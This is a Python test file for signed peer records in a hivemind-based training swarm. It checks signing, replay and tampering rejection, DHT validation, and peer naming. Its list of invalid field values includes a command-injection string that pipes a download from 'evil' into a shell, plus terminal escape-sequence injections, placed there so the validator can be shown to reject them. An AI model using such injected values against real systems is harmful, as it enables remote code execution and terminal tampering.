"""Peer records: signed by the peer they speak of, strict, not replayable. Names and identities."""

from __future__ import annotations

import time
from pathlib import Path

import msgpack
import pytest
from hivemind.dht import DHTID
from hivemind.dht.validation import DHTRecord
from hivemind.utils.serializer import MSGPackSerializer

from collab_core.errors import StateError
from collab_core.swarm import Identity, PeerRecord, friendly_name
from collab_core.swarm.addresses import best_first, host_and_port, peer_of
from collab_core.swarm.names import MAX_LABELS, Labels
from collab_core.swarm.record import MAX_LIFETIME_S, RecordValidator, records_key, seal, unseal

RUN = bytes(range(32))


@pytest.fixture
def identity(tmp_path: Path) -> Identity:
    return Identity.load_or_create(tmp_path / "identity.key")


def make_record(**changes: object) -> PeerRecord:
    fields = {"name": "x", "role": "trainer", "mode": "direct", "version": "1", "phase": "working", "time": 1.0}
    return PeerRecord.model_validate({**fields, **changes})


def test_an_identity_is_kept_and_private(tmp_path: Path, identity: Identity) -> None:
    path = tmp_path / "identity.key"
    assert Identity.load_or_create(path).peer_id == identity.peer_id
    assert path.stat().st_mode & 0o077 == 0
    path.write_bytes(b"junk")
    with pytest.raises(StateError):
        Identity.load_or_create(path)


def test_a_record_is_believed_only_from_its_own_peer_run_and_time(identity: Identity, tmp_path: Path) -> None:
    expiration = time.time() + 10
    sealed = seal(make_record(loss=1.5), RUN, identity, expiration)
    opened = unseal(sealed, RUN, identity.peer_id, expiration)
    assert opened is not None
    assert opened.loss == 1.5
    other = Identity.load_or_create(tmp_path / "other.key")
    assert unseal(sealed, RUN, other.peer_id, expiration) is None
    assert unseal(sealed, bytes(32), identity.peer_id, expiration) is None
    assert unseal(sealed, RUN, identity.peer_id, expiration + 1) is None
    for position in range(0, len(sealed), 7):
        damaged = bytearray(sealed)
        damaged[position] ^= 1
        assert unseal(bytes(damaged), RUN, identity.peer_id, expiration) is None
    for junk in (b"", b"x" * 9000, None, 3, "text"):
        assert unseal(junk, RUN, identity.peer_id, expiration) is None


@pytest.mark.parametrize(
    "changes",
    [
        {"loss": float("nan")},
        {"loss": 1.7e308},
        {"samples_per_second": 1e300},
        {"version": "9;curl evil|sh"},
        {"version": "1\x1b[2J"},
        {"name": "a\x9b2Jb"},
        {"epoch": -1},
        {"epoch": 2**60},
        {"root": "xyz"},
        {"role": "king"},
        {"name": ""},
        {"name": "a\x1b[2Jb"},
        {"name": "n" * 100},
        {"samples": 1.5},
        {"addresses": ["a"] * 99},
        {"surprise": 1},
    ],
)
def test_a_well_signed_record_with_a_wrong_field_does_not_exist(identity: Identity, changes: dict[str, object]) -> None:
    fields = {**make_record().model_dump(), **changes}

    class Raw:
        def model_dump(self) -> dict[str, object]:
            return fields

    sealed = seal(Raw(), RUN, identity, 50.0)  # type: ignore[arg-type]
    assert unseal(sealed, RUN, identity.peer_id, 50.0) is None


def test_the_dht_stores_nothing_but_records(identity: Identity) -> None:
    validator = RecordValidator(RUN, time.time)
    expiration = time.time() + 10
    key = DHTID.generate(source=records_key(RUN)).to_bytes()
    subkey = MSGPackSerializer.dumps(identity.peer_id)
    value = MSGPackSerializer.dumps(seal(make_record(), RUN, identity, expiration))
    assert validator.validate(DHTRecord(key, subkey, value, expiration))
    assert not validator.validate(DHTRecord(b"\0" * 20, subkey, value, expiration))
    assert not validator.validate(DHTRecord(key, MSGPackSerializer.dumps("somebody"), value, expiration))
    assert not validator.validate(DHTRecord(key, subkey, msgpack.packb({"a": 1}), expiration))
    assert not validator.validate(DHTRecord(key, b"\xc1", b"\xc1", expiration))
    late = time.time() + 2 * MAX_LIFETIME_S
    eternal = MSGPackSerializer.dumps(seal(make_record(), RUN, identity, late))
    assert not validator.validate(DHTRecord(key, subkey, eternal, late))


def test_names_follow_from_the_peer_id(identity: Identity) -> None:
    assert friendly_name(identity.peer_id) == friendly_name(identity.peer_id)
    names = {friendly_name(f"peer-{number}") for number in range(500)}
    assert len(names) > 450
    assert all(name.count("-") == 1 and name.islower() for name in names)


def test_a_peer_keeps_its_label_and_two_of_one_name_are_told_apart() -> None:
    labels = Labels()
    for _ in range(2):
        assert labels.of("peer-aaaa", "anna") == "anna"
        assert labels.of("peer-bbbb", "anna") == "anna-bbbb"
        assert labels.of("peer-aaaa", None) == "anna", "also after it left"
    assert labels.of("peer-aaaa", "berta") == "berta", "it came back with another name"
    assert labels.of("peer-cccc", None) == friendly_name("peer-cccc")
    for number in range(3 * MAX_LABELS):
        labels.of(f"peer-{number}", "carl")
    assert len(labels._given) == MAX_LABELS


def test_addresses_are_sorted_for_strangers() -> None:
    public, private, loopback = (f"/ip4/{ip}/tcp/1/p2p/Q" for ip in ("8.8.8.8", "192.168.1.5", "127.0.0.1"))
    assert best_first([loopback, private, public, loopback]) == [public, private, loopback]
    assert host_and_port("/ip4/127.0.0.1/tcp/80") == ("127.0.0.1", 80)
    assert host_and_port("/unix/tmp/x") is None
    assert peer_of(public) == "Q"
